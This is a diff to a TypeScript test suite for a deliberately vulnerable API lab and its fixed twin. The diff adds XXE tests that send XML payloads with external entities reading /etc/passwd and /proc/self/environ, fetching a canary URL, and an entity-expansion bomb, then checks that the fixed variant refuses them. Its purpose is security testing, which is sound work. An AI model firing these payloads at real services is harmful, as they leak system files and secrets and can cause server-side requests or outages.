@@ -34,6 +34,9 @@ const enc = encodeURIComponent;
 const noteSlugs = (a: Answer): string[] => (a.json as { items: Array<{ slug: string }> }).items.map((n) => n.slug);
 const owners = (a: Answer): string[] => [...new Set((a.json as { items: Array<{ owner: string }> }).items.map((n) => n.owner))].sort();
 const corsHeaders = (a: Answer): string[] => [...a.headers.keys()].filter((k) => k.startsWith('access-control-'));
+const XML_NOTE = (title: string, body: string, doctype = ''): string => `<?xml version="1.0" encoding="UTF-8"?>${doctype}<note><title>${title}</title><body>${body}</body></note>`;
+const xml = (text: string): { rawBody: string; headers: Record<string, string> } => ({ rawBody: text, headers: { 'content-type': 'application/xml' } });
+const PASSWD_LINE = /root:[^:\n]*:0:0:/;
 
 describe('the target itself', () => {
   it('serves the same valid Swagger 2.0 document on both variants at /swagger.json and nothing at /openapi.json', async () => {
@@ -59,7 +62,7 @@ describe('the target itself', () => {
     expect((await call(fixed, '/openapi.json')).status).toBe(404);
   });
 
-  it('documents 12 distinct check ids on the vulnerable variant, each at a route of the spec, and nothing on the fixed twin', async () => {
+  it('documents 13 distinct check ids on the vulnerable variant, each at a route of the spec, and nothing on the fixed twin', async () => {
     expect(vuln.vulnerabilities).toBe(LEGACY_VULNERABILITIES);
     expect(fixed.vulnerabilities).toEqual([]);
     expect(new Set(vuln.vulnerabilities.map((v) => v.id)).size).toBe(vuln.vulnerabilities.length);
@@ -67,6 +70,7 @@ describe('the target itself', () => {
       new Set([
         'injection.sql', 'authz.bola', 'authz.mass-assignment', 'data.excessive-exposure', 'authz.bfla', 'auth.unauthenticated-access',
         'injection.path-traversal', 'injection.ssrf', 'config.cors', 'config.verbose-errors', 'auth.no-login-rate-limit', 'config.security-headers',
+        'injection.xxe',
       ]),
     );
     const paths = (await call(vuln, '/swagger.json')).json as { paths: Record<string, Record<string, unknown>> };
@@ -127,6 +131,13 @@ describe('the target itself', () => {
       await step('audit as admin', '/api/admin/audit', { cookie: root });
       await step('audit without session', '/api/admin/audit');
       await step('avatar not a URL', '/api/avatar', { method: 'POST', cookie: carol, form: { url: 'not a url' } });
+      const imported = await step('import (xml)', '/api/notes/import', { method: 'POST', cookie: carol, rawBody: XML_NOTE('Imported &amp; kept', 'a &lt; b'), headers: { 'content-type': 'application/xml' } });
+      expect(imported.json).toMatchObject({ owner: 'carol', title: 'Imported & kept', body: 'a < b' });
+      await step('import (text/xml, no body)', '/api/notes/import', { method: 'POST', cookie: carol, rawBody: '<?xml version="1.0"?><note><title>T</title></note>', headers: { 'content-type': 'text/xml' } });
+      await step('import (json)', '/api/notes/import', { method: 'POST', cookie: carol, json: { title: 'x' } });
+      await step('import (wrong root)', '/api/notes/import', { method: 'POST', cookie: carol, rawBody: '<memo><title>x</title></memo>', headers: { 'content-type': 'application/xml' } });
+      await step('import (malformed)', '/api/notes/import', { method: 'POST', cookie: carol, rawBody: '<note><title>x</note>', headers: { 'content-type': 'application/xml' } });
+      await step('import without session', '/api/notes/import', { method: 'POST', rawBody: XML_NOTE('x', ''), headers: { 'content-type': 'application/xml' } });
       return seen;
     };
     expect(await script(fixed, 'f')).toEqual(await script(vuln, 'v'));
@@ -269,6 +280,51 @@ describe('the flaws of the vulnerable variant, and their absence on the fixed tw
       }
       expect(hits).toEqual(['/internal-admin']);
     });
+
+    exploit('legacy-xxe-note-import', 'an external entity in the XML import reads /etc/passwd into the note, and http entities (general and parameter) are fetched', async () => {
+      const cookie = await login(vuln, 'carol');
+      const file = '<!DOCTYPE note [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
+      const read = await call(vuln, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('passwd', '&x;', file)) });
+      expect(read.status).toBe(201);
+      expect((read.json as { body: string }).body).toMatch(PASSWD_LINE);
+      // In the title the file is longer than the 120 characters allowed: a 400 that does not show it.
+      const inTitle = await call(vuln, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('&x;', '', file)) });
+      expect(inTitle.status).toBe(400);
+      expect(inTitle.text).not.toMatch(PASSWD_LINE);
+      const general = await call(vuln, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('fetched', '&x;', `<!DOCTYPE note [<!ENTITY x SYSTEM "${canaryUrl}/xxe-general">]>`)) });
+      expect(general.status).toBe(201);
+      expect((general.json as { body: string }).body).toBe('not really a png');
+      const parameter = await call(vuln, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('blind', 'x', `<!DOCTYPE note [<!ENTITY % p SYSTEM "${canaryUrl}/xxe-parameter"> %p;]>`)) });
+      // The fetched text is not a DTD: a parse error, after the request was made.
+      expect(parameter.status).toBe(400);
+      const internal = await call(vuln, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('&a;&b;', 'x', '<!DOCTYPE note [<!ENTITY a "in"><!ENTITY b "ternal">]>')) });
+      expect((internal.json as { title: string }).title).toBe('internal');
+      expect(hits).toEqual(expect.arrayContaining(['/xxe-general', '/xxe-parameter']));
+      const before = hits.length;
+      const fixedCookie = await login(fixed, 'carol');
+      for (const doctype of [file, `<!DOCTYPE note [<!ENTITY x SYSTEM "${canaryUrl}/xxe-fixed">]>`, `<!DOCTYPE note [<!ENTITY % p SYSTEM "${canaryUrl}/xxe-fixed"> %p;]>`, '<!DOCTYPE note>']) {
+        const f = await call(fixed, '/api/notes/import', { method: 'POST', cookie: fixedCookie, ...xml(XML_NOTE('t', '&x;', doctype)) });
+        expect(f.status, doctype).toBe(400);
+        expect(f.text).toMatch(/DOCTYPE is not allowed/);
+        expect(f.text).not.toMatch(PASSWD_LINE);
+      }
+      expect(hits.length).toBe(before);
+      const plain = await call(fixed, '/api/notes/import', { method: 'POST', cookie: fixedCookie, ...xml(XML_NOTE('plain', 'fine')) });
+      expect(plain.status).toBe(201);
+    });
+
+    exploit('legacy-xxe-note-create-xml', 'note creation, described as form/JSON, takes XML with external entities resolved; the fixed twin refuses XML', async () => {
+      const body = XML_NOTE('switched', '&x;', '<!DOCTYPE note [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
+      const a = await call(vuln, '/api/notes', { method: 'POST', cookie: await login(vuln, 'carol'), ...xml(body) });
+      expect(a.status).toBe(201);
+      expect((a.json as { body: string }).body).toMatch(PASSWD_LINE);
+      const cookie = await login(fixed, 'carol');
+      for (const text of [body, XML_NOTE('plain', 'no entities')]) {
+        const f = await call(fixed, '/api/notes', { method: 'POST', cookie, ...xml(text) });
+        expect(f.status).toBe(400);
+        expect(f.text).not.toMatch(PASSWD_LINE);
+      }
+    });
   });
 
   exploit('legacy-cors-any-origin', 'Origin: null and any other origin are allowed with credentials; the fixed twin sends no CORS headers', async () => {
@@ -367,6 +423,14 @@ describe('hostile input', () => {
         call(t, '/api/notes?limit=99999999999999999999', { cookie }),
         call(t, '/api/export', { cookie }),
         call(t, '/api/notes/..%2F..%2Fetc', { cookie }),
+        // Entity bombs, device files, recursion and malformed XML: refused quickly by the parser's caps.
+        call(t, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('&l9;', '', `<!DOCTYPE note [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>`)) }),
+        call(t, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('&z;', '', '<!DOCTYPE note [<!ENTITY z SYSTEM "file:///dev/zero">]>')) }),
+        call(t, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('&e;', '', `<!DOCTYPE note [<!ENTITY e SYSTEM "file://${process.cwd()}/../../../../proc/self/environ">]>`)) }),
+        call(t, '/api/notes/import', { method: 'POST', cookie, ...xml(XML_NOTE('&r;', '', '<!DOCTYPE note [<!ENTITY r "&s;"><!ENTITY s "&r;">]>')) }),
+        call(t, '/api/notes/import', { method: 'POST', cookie, ...xml(`${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`) }),
+        call(t, '/api/notes/import', { method: 'POST', cookie, ...xml('<note><title>x</title><body>&undefined;</body></note>') }),
+        call(t, '/api/notes/import', { method: 'POST', cookie, ...xml('\u0000<note/>') }),
       ]);
       for (const a of answers) {
         expect(a.status, a.text).toBeGreaterThanOrEqual(400);
